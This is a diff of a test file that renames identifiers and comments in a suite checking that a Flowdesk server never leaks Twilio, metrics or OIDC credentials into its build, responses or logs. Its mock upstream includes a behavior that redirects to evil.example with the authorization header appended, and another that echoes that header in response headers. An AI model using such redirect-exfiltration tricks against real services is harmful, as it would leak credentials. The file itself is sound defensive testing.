@@ -9,14 +9,14 @@ import { promisify } from 'node:util'
 
 import { afterAll, beforeAll, expect, test, vi } from 'vitest'
 
-import { hashPassword } from '#access/password-hash.ts'
+import { hashPassword } from '#auth/password/password-hash.ts'
 import { listen } from '#server/http/listen.ts'
 
 import { spawnCommand } from './spawn-command.ts'
 
 /*
- * No credential is in any answer, header, log line, error or file of the build. The server is built with all of them in its
- * environment, as `npm start` does, is started with them, and is led through what works and what fails.
+ * No response, header, log line, error or file of the build contains a credential. The server is built and started with all
+ * of them in its environment, as `npm start` does, and gets requests that succeed and that fail.
  */
 
 const root = resolve(import.meta.dirname, '../..')
@@ -41,8 +41,8 @@ const withOidc = {
   OIDC_ALLOWED_DOMAINS: 'example.com',
 }
 
-/** Each credential, in every way of writing it that is used on the way. */
-const needles = [
+/** Each credential, in every encoding that is used. */
+const secretForms = [
   secrets.TWILIO_API_KEY,
   secrets.TWILIO_API_SECRET,
   secrets.METRICS_TOKEN,
@@ -54,17 +54,17 @@ const needles = [
   `flowdesk:${withOidc.OIDC_CLIENT_SECRET}`,
 ].flatMap((text) => [text, encodeURIComponent(text), Buffer.from(text).toString('base64').replace(/=+$/, '')])
 
-/** The credentials that stand in a text: none, or their first letters. */
-function found(text: string): string[] {
-  return needles.filter((needle) => text.includes(needle)).map((needle) => `${needle.slice(0, 14)}…`)
+/** The credentials that a text contains, by their first letters. */
+function secretsIn(text: string): string[] {
+  return secretForms.filter((needle) => text.includes(needle)).map((needle) => `${needle.slice(0, 14)}…`)
 }
 
 let folder = ''
 let twilio: Server
 let base = ''
-/** How the next requests to Twilio go; what it hears is what it should hear. */
-let answer: (request: IncomingMessage, response: ServerResponse) => void
-const heard = new Set<string>()
+/** How Twilio handles the next requests. */
+let handleUpstream: (request: IncomingMessage, response: ServerResponse) => void
+const authorizations = new Set<string>()
 const running: ChildProcess[] = []
 
 beforeAll(async () => {
@@ -75,8 +75,8 @@ beforeAll(async () => {
   await promisify(execFile)(process.execPath, [vite, ...build], { cwd: root, env })
 
   twilio = createServer((request, response) => {
-    heard.add(request.headers.authorization ?? '')
-    answer(request, response)
+    authorizations.add(request.headers.authorization ?? '')
+    handleUpstream(request, response)
   })
   base = `http://127.0.0.1:${await listen(twilio, { host: '127.0.0.1', port: 0, portSetting: 'PORT' })}`
 }, 120_000)
@@ -88,7 +88,7 @@ afterAll(async () => {
   await rm(folder, { recursive: true })
 })
 
-/** Starts it, and keeps every answer as one text: status, headers, body. */
+/** Starts the server, and records every response as one text: status, headers, body. */
 async function start(env: Record<string, string>) {
   const spawned = spawnCommand(
     'start.ts',
@@ -97,40 +97,40 @@ async function start(env: Record<string, string>) {
   )
   running.push(spawned.child)
   const origin = await vi.waitFor(spawned.origin, { timeout: 10_000 })
-  const answers: string[] = []
-  const ask = async (path: string, init: RequestInit = {}) => {
+  const responses: string[] = []
+  const sendRequest = async (path: string, init: RequestInit = {}) => {
     const got = await fetch(`${origin}${path}`, { redirect: 'manual', ...init })
     const body = await got.text().catch((error: unknown) => String(error))
-    answers.push(`${got.status} ${JSON.stringify([...got.headers])} ${body}`)
+    responses.push(`${got.status} ${JSON.stringify([...got.headers])} ${body}`)
     return got
   }
   const stop = async () => {
     spawned.child.kill('SIGTERM')
     return spawned.exit
   }
-  return { origin, ask, answers, stop }
+  return { origin, sendRequest, responses, stop }
 }
 
 const flow = `FW${'a'.repeat(32)}`
 const engagement = `FN${'b'.repeat(32)}`
-const reads = [
+const endpointPaths = [
   '/v1/Flows',
   `/v1/Flows/${flow}/Engagements?PageSize=1000`,
   `/v1/Flows/${flow}/Engagements/${engagement}/Context`,
 ]
 
-/** All that can go wrong between Flowdesk and Twilio. */
-const weather: Record<string, typeof answer> = {
-  well: (_, response) => response.setHeader('content-type', 'application/json').end('{"flows":[]}'),
+/** Everything that can go wrong between Flowdesk and Twilio. */
+const upstreamBehaviors: Record<string, typeof handleUpstream> = {
+  ok: (_, response) => response.setHeader('content-type', 'application/json').end('{"flows":[]}'),
   unauthorized: (_, response) =>
     response
       .writeHead(401, { 'www-authenticate': 'Basic realm="Twilio"' })
       .end('{"code":20003,"status":401}'),
-  'sent elsewhere': ({ headers }, response) =>
+  'redirect to another host': ({ headers }, response) =>
     response
       .writeHead(302, { location: `https://evil.example/?${headers.authorization}` })
       .end(headers.authorization),
-  'told in headers': ({ headers }, response) =>
+  'secrets in headers': ({ headers }, response) =>
     response
       .writeHead(500, { 'x-debug': headers.authorization, 'set-cookie': `a=${headers.authorization}` })
       .end('{}'),
@@ -139,7 +139,7 @@ const weather: Record<string, typeof answer> = {
     setTimeout(() => response.destroy(), 20)
   },
   reset: ({ socket }) => socket.destroy(),
-  nonsense: ({ socket }) => socket.end('no answer at all\r\n\r\n'),
+  nonsense: ({ socket }) => socket.end('no response at all\r\n\r\n'),
 }
 
 async function files(): Promise<string[]> {
@@ -147,40 +147,41 @@ async function files(): Promise<string[]> {
   return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name))
 }
 
-test('no file of the build holds one, though it was built with all of them set', async () => {
+test('no file of the build contains a credential, though all were set during the build', async () => {
   const names = await files()
   expect(names.length).toBeGreaterThan(10)
   const texts = await Promise.all(names.map((name) => readFile(name, 'latin1')))
-  expect(names.filter((_, i) => found(texts[i] ?? '').length > 0)).toEqual([])
+  expect(names.filter((_, i) => secretsIn(texts[i] ?? '').length > 0)).toEqual([])
 })
 
-test('a shared password: no answer and no line holds one, whatever happens', async () => {
-  const { origin, ask, answers, stop } = await start(withPassword)
+test('with a shared password, no response and no log line contains a credential', async () => {
+  const { origin, sendRequest, responses, stop } = await start(withPassword)
   const signIn = (given: string) =>
-    ask('/api/session/password', {
+    sendRequest('/api/session/password', {
       method: 'POST',
       headers: { origin, 'content-type': 'application/json' },
       body: JSON.stringify({ password: given }),
     })
-  await ask('/api/v1/Flows')
+  await sendRequest('/api/v1/Flows')
   const cookie = (await signIn(password)).headers.get('set-cookie')?.split(';')[0] ?? ''
   expect(cookie).not.toBe('')
-  // A wrong one, and then the right one too soon after it.
+  // A wrong password, and then the correct one again.
   await signIn(`${password}!`)
   await signIn(password)
   const headers = { cookie }
-  for (const [name, how] of Object.entries(weather)) {
-    answer = how
-    for (const [i, read] of reads.entries()) {
-      // Another page each time, as the same one would be shared. One after the other, as the weather changes.
-      const path = read.includes('Context')
-        ? read
-        : `${read}${read.includes('?') ? '&' : '?'}PageToken=${name.length}-${i}`
-      // oxlint-disable-next-line no-await-in-loop -- see above
-      await ask(`/api${path}`, { headers }).catch(() => answers.push('cut off'))
+  for (const [name, how] of Object.entries(upstreamBehaviors)) {
+    handleUpstream = how
+    for (const [i, endpointPath] of endpointPaths.entries()) {
+      // A different page each time, since identical requests are shared. One after the other, since the behavior changes.
+      const path = endpointPath.includes('Context')
+        ? endpointPath
+        : `${endpointPath}${endpointPath.includes('?') ? '&' : '?'}PageToken=${name.length}-${i}`
+      await sendRequest(`/api${path}`, { headers }).catch(() => responses.push('cut off'))
     }
   }
-  expect([...heard]).toContain(`Basic ${btoa(`${secrets.TWILIO_API_KEY}:${secrets.TWILIO_API_SECRET}`)}`)
+  expect([...authorizations]).toContain(
+    `Basic ${btoa(`${secrets.TWILIO_API_KEY}:${secrets.TWILIO_API_SECRET}`)}`,
+  )
 
   const authorization = `Bearer ${secrets.METRICS_TOKEN}`
   const paths = [
@@ -199,31 +200,32 @@ test('a shared password: no answer and no line holds one, whatever happens', asy
     `/api/v1/Flows?q=${password}`,
     `/${'x'.repeat(9000)}`,
   ]) {
-    // oxlint-disable-next-line no-await-in-loop -- a dozen, in order
-    await ask(path, { headers: { ...headers, authorization } })
+    await sendRequest(path, { headers: { ...headers, authorization } })
   }
-  await ask('/metrics', { headers: { authorization: `${authorization}x`, 'x-forwarded-for': '203.0.113.7' } })
-  await ask('/api/session', { method: 'POST', headers: { origin, cookie: `${cookie}x` } })
-  await ask('/api/audit', { method: 'POST', headers: { origin, cookie }, body: password })
-  await ask('/api/session', { method: 'DELETE', headers: { origin, cookie } })
-  answers.push(
-    await say(
+  await sendRequest('/metrics', {
+    headers: { authorization: `${authorization}x`, 'x-forwarded-for': '203.0.113.7' },
+  })
+  await sendRequest('/api/session', { method: 'POST', headers: { origin, cookie: `${cookie}x` } })
+  await sendRequest('/api/audit', { method: 'POST', headers: { origin, cookie }, body: password })
+  await sendRequest('/api/session', { method: 'DELETE', headers: { origin, cookie } })
+  responses.push(
+    await sendRaw(
       origin,
       `GET /${secrets.TWILIO_API_SECRET} HTTP/9.9\r\nX-Key: ${secrets.METRICS_TOKEN}\r\n\r\n`,
     ),
   )
 
   const { out, err } = await stop()
-  expect(answers.length).toBeGreaterThan(35)
-  expect(answers.flatMap(found)).toEqual([])
+  expect(responses.length).toBeGreaterThan(35)
+  expect(responses.flatMap(secretsIn)).toEqual([])
   expect(out).toContain('"audit":"sign-in"')
   expect(out).toContain('"msg":"request"')
-  expect([found(out), err]).toEqual([[], ''])
+  expect([secretsIn(out), err]).toEqual([[], ''])
   expect(out.includes(cookie) || out.includes('PageToken')).toBe(false)
 })
 
-test('a provider: nor there', async () => {
-  answer = (request, response) => {
+test('with a provider, no response and no log line contains a credential', async () => {
+  handleUpstream = (request, response) => {
     response.setHeader('content-type', 'application/json')
     if (!request.url?.startsWith('/.well-known'))
       return response.writeHead(400).end('{"error":"invalid_grant"}')
@@ -235,28 +237,28 @@ test('a provider: nor there', async () => {
     const metadata = { issuer: base, ...endpoints, code_challenge_methods_supported: ['S256'] }
     return response.end(JSON.stringify(metadata))
   }
-  const { ask, answers, stop } = await start({ ...withOidc, OIDC_ISSUER: base })
-  const leaving = await ask('/auth/oidc?to=/flows')
+  const { sendRequest, responses, stop } = await start({ ...withOidc, OIDC_ISSUER: base })
+  const leaving = await sendRequest('/auth/oidc?to=/flows')
   const location = new URL(leaving.headers.get('location') ?? '')
   expect(location.pathname).toBe('/ask')
   const cookie = leaving.headers.get('set-cookie')?.split(';')[0] ?? ''
   const state = location.searchParams.get('state') ?? ''
-  await ask(`/auth/oidc/callback?code=stolen&state=${state}`, { headers: { cookie } })
-  await ask(`/auth/oidc/callback?error=access_denied&state=${state}`, { headers: { cookie } })
-  await ask('/auth/oidc/callback?code=stolen&state=other')
-  const secretsSent = [...heard].some(
+  await sendRequest(`/auth/oidc/callback?code=stolen&state=${state}`, { headers: { cookie } })
+  await sendRequest(`/auth/oidc/callback?error=access_denied&state=${state}`, { headers: { cookie } })
+  await sendRequest('/auth/oidc/callback?code=stolen&state=other')
+  const secretsSent = [...authorizations].some(
     (one) => one.startsWith('Basic ') && atob(one.slice(6)).includes('oidc'),
   )
-  expect(secretsSent, 'the provider was asked with the client’s secret').toBe(true)
+  expect(secretsSent, 'the provider received the client secret').toBe(true)
 
   const { out, err } = await stop()
-  expect(answers).toHaveLength(4)
-  expect(answers.flatMap(found)).toEqual([])
+  expect(responses).toHaveLength(4)
+  expect(responses.flatMap(secretsIn)).toEqual([])
   expect(out).toContain('"audit":"sign-in-refused"')
-  expect([found(out), err]).toEqual([[], ''])
+  expect([secretsIn(out), err]).toEqual([[], ''])
 })
 
-test('nor in what keeps it from starting', async () => {
+test('errors at the start contain no credential', async () => {
   const wrong = {
     TWILIO_API_KEY: secrets.TWILIO_API_SECRET,
     TWILIO_API_SECRET: secrets.TWILIO_API_SECRET,
@@ -270,15 +272,15 @@ test('nor in what keeps it from starting', async () => {
   const { exit } = spawnCommand('start.ts', wrong, { cwd: folder })
   const { code, out, err } = await exit
   expect({ code, out, lines: err.trim().split('\n').length }).toEqual({ code: 1, out: '', lines: 6 })
-  expect(found(err)).toEqual([])
+  expect(secretsIn(err)).toEqual([])
 })
 
-test('and they would be found', () => {
-  for (const needle of needles) expect(found(`before ${needle} after`)).not.toEqual([])
+test('the search for credentials finds every form of them', () => {
+  for (const needle of secretForms) expect(secretsIn(`before ${needle} after`)).not.toEqual([])
 })
 
-/** Sends bytes that are no request, and gives back what comes. */
-function say(origin: string, bytes: string): Promise<string> {
+/** Sends bytes that are not a valid request, and returns the response. */
+function sendRaw(origin: string, bytes: string): Promise<string> {
   return new Promise((settle, reject) => {
     let text = ''
     const socket = connect(Number(new URL(origin).port), '127.0.0.1', () => socket.write(bytes))
